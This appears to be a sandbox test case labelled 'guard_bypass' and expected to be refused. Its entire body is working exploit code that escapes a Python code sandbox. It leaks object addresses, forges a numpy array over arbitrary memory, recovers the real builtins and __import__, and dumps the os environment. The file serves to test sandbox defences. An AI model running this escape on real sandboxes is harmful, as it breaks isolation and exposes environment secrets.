# class: guard_bypass
# expect: refused
# attack: `super().__init__` is allowed anywhere, and `super` may be any parameter's name: `def init_of(super): return super().__init__` reads __init__ of any object. Its repr gives any object's address; SimpleNamespace.__init__ of np.random (a program's np namespaces are SimpleNamespaces) sets an instance attribute named __array_interface__, which np.asarray honours: a writable array over any address. With it, a list slot is pointed at the print builtin's module globals (roboscript.codegen.sandbox's), and from them the real builtins and __import__
def init_of(super):
    return super().__init__
def addr(obj):
    text = repr(init_of(lambda: obj))
    return int(text[text.rfind('0x') + 2:-1], 16)
holder = np.random
def mem(address, count):
    init_of(lambda: holder)(**{'__array_interface__': {'data': (int(address), False), 'shape': (count,), 'typestr': '<u8', 'version': 3}})
    return np.asarray(holder)
box = [None]
items = mem(addr(box) + 24, 1)[0]
globals_address = mem(addr(print) + 16, 1)[0]
count = mem(globals_address, 1)
count[0] = count[0] + 1
slot = mem(items, 1)
slot[0] = globals_address
G = box[0]
print('module globals of:', G['__name__'])
real = G['__builtins__']
print('real builtins:', real['__import__'], real['open'], real['eval'])
os_module = real['__import__']('os')
print('os:', os_module, 'environ:', dict(os_module.environ))
sys_module = G['sys']
print('subclasses of object:', len(real['getattr'](real['object'], '__subclasses__')()))
print('frame:', real['getattr'](sys_module, '_getframe')(0))
print('np._core:', real['getattr'](real['__import__']('numpy'), '_core'))
